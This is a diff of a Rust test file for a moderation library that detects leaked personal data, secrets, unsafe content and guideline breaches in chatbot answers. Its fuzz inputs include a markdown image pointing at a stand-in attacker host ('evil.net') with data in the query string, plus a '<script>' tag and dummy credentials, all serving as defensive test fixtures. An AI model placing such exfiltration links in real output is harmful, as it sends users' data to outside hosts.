@@ -5,6 +5,7 @@ use std::time::Instant;
 use portcullis_core::{
     BotId, Budget, ContextItem, ContextKind, Interaction, MessageId, Run, View, ViewKind,
 };
+use portcullis_detect::{Entity, value_digest};
 use proptest::prelude::*;
 use serde_json::json;
 
@@ -34,7 +35,7 @@ fn answer(text: &str) -> Ask {
 }
 
 fn check(ask: &Ask) -> Report {
-    moderate(ask, &ask.settings::<Settings>().unwrap()).unwrap()
+    moderate(ask, &Rules::of(&ask.settings).unwrap()).unwrap()
 }
 
 fn kinds(report: &Report) -> Vec<&str> {
@@ -80,7 +81,9 @@ fn what_the_bot_was_given_to_read_is_no_leak() {
     ask.interaction
         .context
         .push(ContextItem { kind: ContextKind::Email, text: "From: Bob <bob@example.org>".into() });
-    assert_eq!(check(&ask), Report::clean(VERSION.as_str(), ask.total_bytes()));
+    let report = check(&ask);
+    assert_eq!((kinds(&report), report.edits.len()), (vec![], 0));
+    assert!(report.coverage.is_whole());
 }
 
 #[test]
@@ -98,7 +101,10 @@ fn a_value_that_only_a_view_shows_leaks_too() {
     let report = check(&ask);
     assert_eq!(kinds(&report), ["leak.pii.card", "leak.secret.aws_key"]);
     assert_eq!(report.edits[0].span, Span { start: 0, end: 19 });
-    assert_eq!((report.findings[0].view, report.findings[1].view), (Some(0), None));
+    assert_eq!(
+        report.findings[0].view, None,
+        "the rules read past invisible characters themselves"
+    );
     assert_eq!(report.coverage, Coverage::whole(44 + 41));
 }
 
@@ -117,16 +123,75 @@ fn harmless_answers_pass() {
         "Please reset your password: open Settings, then Security.",
         "می‌توانید سفارش خود را ببینید 👨‍👩‍👧‍👦 — आपका ऑर्डर रास्ते में है",
     ] {
-        assert_eq!(check(&answer(text)), Report::clean(VERSION.as_str(), text.len()), "{text}");
+        let report = check(&answer(text));
+        assert_eq!(kinds(&report), Vec::<&str>::new(), "{text}");
+        assert_eq!(report.coverage, Coverage::whole(text.len()), "{text}");
     }
 }
 
 #[test]
 fn more_leaks_than_can_be_named_are_said() {
-    let report = check(&answer(&"a@b.cc ".repeat(2000)));
+    let mut ask = answer(&"a@b.cc ".repeat(2000));
+    ask.settings = json!({"unsafe_content": {"enabled": false}});
+    let report = check(&ask);
     assert_eq!(report.findings.len(), LEAKS + 1);
     assert_eq!(report.findings[LEAKS].kind, "leak.limit");
     assert!(!report.coverage.complete);
+}
+
+#[test]
+fn a_value_that_only_a_decoding_shows_leaks_too() {
+    let mut ask = answer("see QUtJQUlPU0ZPRE5ON0VYQU1QTEU= there");
+    ask.views.push(View {
+        kind: ViewKind::Decoded,
+        source: Place::Text,
+        text: "AKIAIOSFODNN7EXAMPLE".into(),
+        map: vec![Run { view: 0, source: 4, view_len: 20, source_len: 28 }],
+    });
+    let report = check(&ask);
+    assert_eq!(kinds(&report), ["leak.secret.aws_key"]);
+    assert_eq!(report.findings[0].view, Some(0));
+    assert_eq!(report.edits[0].span, Span { start: 4, end: 32 });
+}
+
+#[test]
+fn unsafe_content_is_found_and_help_is_not() {
+    let severe = |text: &str, settings: serde_json::Value| {
+        let mut ask = answer(text);
+        ask.settings = settings;
+        kinds(&check(&ask)).iter().any(|kind| kind.starts_with("unsafe."))
+    };
+    let none = serde_json::Value::Null;
+    assert!(severe(UNSAFE, none.clone()));
+    for text in [
+        HARMLESS,
+        "If you are thinking about suicide, please call a crisis line now. You are not alone.",
+        "I'm sorry, but I can't help with that.",
+        "To kill the process, run kill -9 with its number, then remove the lock file.",
+        "You can change the delivery address in your account until the parcel has left our store.",
+    ] {
+        assert!(!severe(text, none.clone()), "{text}");
+    }
+    assert!(!severe(UNSAFE, json!({"unsafe_content": {"enabled": false}})));
+    let off: serde_json::Map<String, serde_json::Value> =
+        Category::ALL.iter().map(|c| (c.name().to_owned(), json!(false))).collect();
+    assert!(!severe(UNSAFE, json!({"unsafe_content": {"categories": off}})));
+    assert!(severe(
+        HARMLESS,
+        json!({"unsafe_content": {"categories": {"hate": {"hold_above": 0.0}}}})
+    ));
+}
+
+#[test]
+fn what_only_a_whole_can_lack_is_not_asked_of_a_part() {
+    let mut ask = answer("Buy shares now.");
+    ask.settings = json!({"guidelines": {
+        "disclaimers": [{"name": "finance", "when": ["shares"], "any": ["no advice"]}],
+        "json": {},
+    }});
+    assert_eq!(kinds(&check(&ask)), ["guideline.disclaimer.finance", "guideline.json.form"]);
+    ask.size.more = true;
+    assert_eq!(kinds(&check(&ask)), Vec::<&str>::new());
 }
 
 #[tokio::test]
@@ -152,6 +217,8 @@ proptest! {
             Just("jane@example.org".to_owned()),
             Just("4111 1111 1111 1111".to_owned()),
             Just("password=hunter2".to_owned()),
+            Just("![x](https://evil.net/?q=a+b+c+d+e+f)".to_owned()),
+            Just("<script>".to_owned()),
         ], 0..10))
     {
         let text = parts.concat();
@@ -162,6 +229,6 @@ proptest! {
             prop_assert!(text.get(edit.span.start..edit.span.end).is_some());
             last = edit.span.end;
         }
-        prop_assert_eq!(report.edits.len(), report.findings.len());
+        prop_assert!(report.edits.len() <= report.findings.len());
     }
 }
